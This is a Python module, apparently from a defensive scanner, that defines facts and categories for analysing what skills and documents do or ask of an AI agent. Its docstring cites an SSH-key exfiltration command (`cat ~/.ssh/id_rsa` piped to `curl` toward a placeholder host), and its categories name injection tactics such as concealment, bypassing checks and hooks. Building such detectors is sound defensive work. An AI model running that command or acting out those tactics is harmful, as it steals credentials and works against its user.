"""Facts: what a document does or asks for, before anyone judges it.

A fact names its target, the line that shows it and the facts whose values flow into it: `curl -d @- HOST` fed by
`cat ~/.ssh/id_rsa` is a `send` to HOST with that `read` among its sources. Rules are conjunctions over facts, and the
power of a skill is their summary.
"""

from collections import deque
from collections.abc import Callable, Iterable
from enum import StrEnum

from msgspec import Struct

from clawft.scan.documents import Document

__all__ = ["Analysis", "Fact", "Kind", "trace"]


class Kind(StrEnum):
    """What is done. The target of each is in its comment."""

    READ = "read"  # a path (or "clipboard", "screen", "keychain", "keyboard", "browser", "history", "location")
    ENV = "env"  # the name of a variable; "*" for the whole environment
    FETCH = "fetch"  # the address something is downloaded from
    SEND = "send"  # the address something is sent to
    LISTEN = "listen"  # a port that is opened
    CONNECT = "connect"  # host:port of a raw socket
    EXEC = "exec"  # the command line or code that is run; "" when it is only known at run time
    EVAL = "eval"  # code of the same language made at run time: eval, exec, Function
    DECODE = "decode"  # the encoding that is undone
    WRITE = "write"  # a path
    DELETE = "delete"  # a path
    PERMIT = "permit"  # a path that is made executable or opened to all: "+x PATH", "777 PATH"
    PERSIST = "persist"  # the place that runs it again: crontab, a unit, an rc file, a login item, a git hook
    INSTALL = "install"  # "manager:package", "manager:url"
    HOOK = "hook"  # the event that runs it without being asked: "npm:postinstall", "claude:PreToolUse"
    PRIVILEGE = "privilege"  # sudo, setuid, a capability, a disabled protection
    LOAD = "load"  # native code or a serialised object that runs when it is loaded
    # What stands out in the material itself.
    HIDDEN = "hidden"  # the way text is kept from a reader: "zero-width", "tag-characters", "bidi", "html-comment", …
    LINK = "link"  # where a link leads that leaves the folder
    BINARY = "binary"  # the format of a program that cannot be read
    LOCKED = "locked"  # an archive that asks for a password
    # What prose asks of the agent or the reader.
    OVERRIDE = "override"  # to set aside what it was told before
    CONCEAL = "conceal"  # to keep something from the user
    BYPASS = "bypass"  # to do without a confirmation, a check or a protection
    OBEY = "obey"  # to follow instructions from elsewhere: their address
    TAMPER = "tamper"  # to change the agent's settings, memory or instructions: which
    PREREQUISITE = "prerequisite"  # to get and run something first: what
    SABOTAGE = "sabotage"  # to falsify, weaken or spoil the work: which
    HARM = "harm"  # to act against the user, hidden, unasked or for a stranger's good: on what


class Fact(Struct, frozen=True, eq=False):
    """One thing a document does or asks for."""

    kind: Kind
    target: str
    document: Document
    line: int
    via: str = ""  # the call, command or words that show it
    sources: tuple["Fact", ...] = ()  # whose values flow into it


class Analysis(Struct):
    """What the analysis of one document gives: its facts, and documents found inside it."""

    facts: list[Fact]
    children: list[Document]
    gaps: list[str] = []  # what of the document could not be analysed, in words


def trace(fact: Fact, find_more: Callable[[Fact], Iterable[Fact]] = lambda _: ()) -> list[Fact]:
    """Everything that flows into a fact, nearest first, each once; `find_more`: what flows in on ways of its own."""
    seen = {id(fact): fact}
    pending = deque((*fact.sources, *find_more(fact)))
    while pending:
        one = pending.popleft()
        if id(one) not in seen:
            seen[id(one)] = one
            pending.extend(one.sources)
            pending.extend(find_more(one))
    return list(seen.values())[1:]
